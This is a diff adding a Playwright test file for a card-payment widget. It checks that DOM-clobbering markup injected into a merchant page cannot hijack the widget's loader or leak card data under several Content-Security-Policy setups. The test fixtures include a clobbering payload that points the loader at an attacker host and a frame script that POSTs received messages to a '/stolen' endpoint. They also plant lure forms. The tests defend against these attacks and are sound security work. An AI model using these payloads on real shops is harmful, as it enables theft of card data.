@@ -1,0 +1,252 @@
+/**
+ * Markup that a stranger got into a merchant's page (a review, a name, a comment), as a sanitizer lets it through:
+ * no script, only elements whose names stand before what scripts read from `document` and `window` (DOM clobbering).
+ */
+import { readFile } from 'node:fs/promises';
+import { readManifest } from '../hosting/hosting.ts';
+import { CARD, type CheckoutPage, checkoutPage, KNOWN_BUYER } from '../support/checkout-page.ts';
+import { expect, test } from '../support/fixtures.ts';
+import { type ForeignSite, startForeignSite } from '../support/foreign-site.ts';
+import type { Intent, Service } from '../support/service.ts';
+
+const NONCE = 'c2hvcA';
+
+/** What a page's policy says of scripts; `null`: the page has none. Each page with its way to load the script. */
+const POLICIES: Readonly<Record<string, (service: Service, shop: ForeignSite) => string | null>> = {
+  'no policy': () => null,
+  'a nonce': () => `script-src 'nonce-${NONCE}'`,
+  'strict-dynamic': () => `script-src 'nonce-${NONCE}' 'strict-dynamic'; base-uri 'none'`,
+  'Trusted Types': () => "require-trusted-types-for 'script'; trusted-types 'none'",
+  'addresses and integrity': (service, shop) =>
+    `script-src ${shop.url} ${service.url}/partner/v1/card-form/; frame-src ${service.url}/partner/v1/card-form/`,
+};
+
+/** The service's script, pinned where the policy's name says so. */
+const loaderOf = async (service: Service, policy: string, attributes = '') => {
+  const { release, files } = await readManifest();
+  const path = `/partner/v1/card-form/${release}/card-form.js`;
+  return policy.endsWith('integrity')
+    ? `<script src="${service.url}${path}" integrity="${files[path]}" crossorigin ${attributes}></script>`
+    : `<script nonce="${NONCE}" src="${service.url}/partner/v1/card-form.js" ${attributes}></script>`;
+};
+
+/** Whatever the loader and the npm package read of `document`, by name. */
+const READ_OF_DOCUMENT = [
+  'addEventListener',
+  'baseURI',
+  'body',
+  'createElement',
+  'documentElement',
+  'featurePolicy',
+  'head',
+  'host',
+  'location',
+  'querySelector',
+  'querySelectorAll',
+];
+
+/** Whatever the loader asks of the container. Where that is a form, a field anywhere in the page can bear such a name. */
+const READ_OF_CONTAINER = ['append', 'classList', 'closest', 'getRootNode', 'isConnected', 'querySelector'];
+
+/** Whatever pages without code have asked of their forms. */
+const READ_OF_FORMS = [
+  ...['append', 'closest', 'elements', 'getRootNode', 'isConnected', 'matches', 'querySelectorAll'],
+  ...['removeAttribute', 'requestSubmit', 'submit'],
+];
+
+/** Lies in the page and is never fetched itself: whatever reaches the attacker was sent by a script. */
+const image = (name: string, more = '') => `<img hidden loading="lazy" name="${name}" ${more}>`;
+
+/** Passes the sanitizers that many shops have. */
+const COLLECTION =
+  '<a id="CardForm"></a><a id="CardForm" name="version"></a><a id="CardForm" name="mount"></a>';
+
+/** What the stranger wrote. */
+const markup = (evil: ForeignSite, cardForm = COLLECTION) => `<p>A review by Mallory.</p>
+${image('currentScript', `src="${evil.url}/v1/card-form.js" data-card-form data-publishable-key="pk_live_evil"`)}
+${cardForm}
+<a id="trustedTypes"></a><a id="addEventListener"></a><a id="origin"></a><a id="navigator"></a>
+${READ_OF_DOCUMENT.map((name) => image(name)).join('\n')}
+${READ_OF_CONTAINER.map((name) => `<input type="hidden" form="card-form" name="${name}">`).join('\n')}`;
+
+/** All that the attacker would serve: a frame that takes what it is sent, and a script that runs in the page. */
+const evilFiles = async (evil: ForeignSite) => {
+  const { release } = await readManifest();
+  const hello = JSON.stringify({ channel: 'card-form', type: 'hello', protocols: [1], release });
+  const frame = `<script>
+onmessage = ({ data }) => fetch('/stolen', { method: 'POST', body: JSON.stringify(data) });
+parent.postMessage(${hello}, '*');
+</script>`;
+  const open = { 'Access-Control-Allow-Origin': '*', 'Cross-Origin-Resource-Policy': 'cross-origin' };
+  evil.put(`/v1/card-form/${release}/frame.html`, frame);
+  evil.put(`/v1/card-form/${release}/page.js`, {
+    type: 'text/javascript',
+    body: 'document.title = "pwned";',
+    headers: open,
+  });
+};
+
+const withSites = async (run: (shop: ForeignSite, evil: ForeignSite) => Promise<void>) => {
+  const [shop, evil] = [await startForeignSite(), await startForeignSite('127.0.0.1')];
+  try {
+    await evilFiles(evil);
+    await run(shop, evil);
+  } finally {
+    await shop.stop();
+    await evil.stop();
+  }
+};
+
+const payIn = async (checkout: CheckoutPage, service: Service, intent: Intent) => {
+  await checkout.fillCard(CARD.visa);
+  await checkout.pay();
+  await expect(checkout.outcome).toHaveText('Payment received');
+  expect(await service.record(intent.id)).toMatchObject({ charges: 1, confirms: 1 });
+};
+
+const mountScript = (service: Service, intent: Intent) =>
+  `CardForm.mount('#card-form', ${JSON.stringify({
+    publishableKey: service.keys.publishable,
+    clientSecret: intent.client_secret,
+    locale: 'en',
+    defaultValues: KNOWN_BUYER,
+  })});`;
+
+for (const [name, policy] of Object.entries(POLICIES)) {
+  test(`issue 13, A1: elements named as what the script reads change nothing, under ${name}`, async ({
+    page,
+    service,
+  }) => {
+    await withSites(async (shop, evil) => {
+      const intent = await service.createIntent();
+      shop.put('/shop.js', { type: 'text/javascript', body: mountScript(service, intent) });
+      const csp = policy(service, shop);
+      const url = shop.put('/checkout', {
+        headers: csp === null ? {} : { 'Content-Security-Policy': csp },
+        body: `<!doctype html><title>Shop</title><link rel="icon" href="data:,">
+${markup(evil)}
+<form id="card-form"></form>
+${await loaderOf(service, name)}
+<script nonce="${NONCE}" src="/shop.js"></script>`,
+      });
+      await page.goto(url, { waitUntil: 'domcontentloaded' });
+      await payIn(checkoutPage(page), service, intent);
+      expect(evil.requests).toEqual([]);
+    });
+  });
+}
+
+test('issue 13, A1: nor what the npm package reads', async ({ page, service }) => {
+  await withSites(async (shop, evil) => {
+    const intent = await service.createIntent();
+    // A window of another origin throws at whoever reads of it.
+    const window = `<iframe hidden name="CardForm" src="${service.url}/partner/v1/card-form/frame"></iframe>`;
+    const javascript = { type: 'text/javascript' };
+    const built = new URL('../../dist/package/card-form.js', import.meta.url);
+    shop.put('/card-form.js', { ...javascript, body: await readFile(built, 'utf8') });
+    const body = `import { loadCardForm } from '/card-form.js';
+const CardForm = await loadCardForm('${service.url}');
+${mountScript(service, intent)}`;
+    shop.put('/shop.js', { ...javascript, body });
+    const url = shop.put('/checkout', {
+      headers: { 'Content-Security-Policy': "require-trusted-types-for 'script'; trusted-types card-form" },
+      body: `<!doctype html><title>Shop</title><link rel="icon" href="data:,">
+${markup(evil, window)}
+<form id="card-form"></form>
+<script type="module" src="/shop.js"></script>`,
+    });
+    await page.goto(url, { waitUntil: 'domcontentloaded' });
+    await payIn(checkoutPage(page), service, intent);
+    expect(evil.requests).toEqual([]);
+  });
+});
+
+test('issue 13, A1: a script of an SVG is refused with a sentence', async ({ page, service, watch }) => {
+  watch.expect(/use an HTML <script src>/);
+  await withSites(async (shop) => {
+    const error = page.waitForEvent('pageerror');
+    await page.goto(
+      shop.put(
+        '/checkout',
+        `<!doctype html><title>Shop</title><link rel="icon" href="data:,">
+<svg data-card-form><script href="${service.url}/partner/v1/card-form.js" data-card-form></script></svg>`,
+      ),
+    );
+    expect((await error).message).toBe('use an HTML <script src>');
+    expect(await page.evaluate(() => 'CardForm' in window)).toBe(false);
+  });
+});
+
+/** An order of the attacker's own, at the same shop, paid before. */
+const prepaid = async (service: Service): Promise<Intent> => {
+  const intent = await service.createIntent();
+  const body = {
+    client_secret: intent.client_secret,
+    amount_total: intent.amount_total,
+    currency: 'usd',
+    card: { number: CARD.visa, exp_month: 12, exp_year: 2034, cvc: '123' },
+    billing_details: {
+      ...KNOWN_BUYER.billingDetails,
+      address: { ...KNOWN_BUYER.billingDetails.address, line2: null },
+    },
+  };
+  const { ok, status } = await fetch(`${service.url}/partner/v1/client/payment_intents/confirm`, {
+    method: 'POST',
+    headers: { Authorization: `Bearer ${service.keys.publishable}`, 'Content-Type': 'application/json' },
+    body: JSON.stringify(body),
+  });
+  if (!ok) throw new Error(`The payment was answered with ${status}.`);
+  return intent;
+};
+
+for (const [name, policy] of Object.entries(POLICIES)) {
+  test(`issue 13, A2: a paid intent in a stranger's form moves nobody, and the true form pays, under ${name}`, async ({
+    page,
+    service,
+    watch,
+  }) => {
+    watch.expect(/success-url: expected on the script's tag/);
+    await withSites(async (shop, evil) => {
+      const [theirs, intent] = [await prepaid(service), await service.createIntent()];
+      const warnings: string[] = [];
+      page.on('console', (message) => warnings.push(message.text()));
+      const csp = policy(service, shop);
+      const secret = `data-client-secret="${theirs.client_secret}"`;
+      const url = shop.put('/checkout', {
+        headers: csp === null ? {} : { 'Content-Security-Policy': csp },
+        body: `<!doctype html><title>Shop</title><link rel="icon" href="data:,">
+<form method="post" action="/account/delete">
+  <div id="stranger" data-card-form data-locale="en" ${secret}></div>
+  <div data-card-form ${secret} data-publishable-key="pk_live_${'9'.repeat(32)}"></div>
+  <div id="lure" data-card-form ${secret} data-success-url="${evil.url}/lure"></div>
+</form>
+${markup(evil)}
+<form id="order" action="/thanks">
+  <div id="card-form" data-card-form data-locale="en" data-client-secret="${intent.client_secret}"></div>
+</form>
+<input type="hidden" form="order" name="payment_intent" value="${theirs.id}">
+${READ_OF_FORMS.map((read) => `<input disabled type="hidden" form="order" name="${read}">`).join('\n')}
+${await loaderOf(service, name, `data-card-form data-publishable-key="${service.keys.publishable}"`)}`,
+      });
+      await page.goto(url, { waitUntil: 'domcontentloaded' });
+      await expect(checkoutPage(page, '#stranger').outcome).toHaveText('Payment received');
+      await expect(page.locator('#lure').getByRole('alert')).toContainText('Write <script');
+      await expect(page.locator('[data-client-secret]')).toHaveCount(0);
+      expect(warnings.join()).toContain('got pk_live_999');
+      // A form that comes later, as from a list of comments. `append` is the last name: it then hides the method.
+      await page.evaluate((names) => {
+        const create = (tag: string) => Document.prototype.createElement.call(document, tag);
+        const form = create('form');
+        for (const name of names) form.append(Object.assign(create('input'), { name }));
+        Document.prototype.querySelector.call(document, 'p')?.append(form);
+      }, READ_OF_FORMS.toReversed());
+      const checkout = checkoutPage(page);
+      await checkout.fill();
+      await checkout.pay();
+      await expect(page).toHaveURL(`${shop.url}/thanks?payment_intent=${intent.id}`);
+      expect(shop.requests.map(({ path }) => path)).not.toContain('/account/delete');
+      expect(evil.requests).toEqual([]);
+      expect(await service.record(intent.id)).toMatchObject({ charges: 1, confirms: 1 });
+    });
+  });
+}
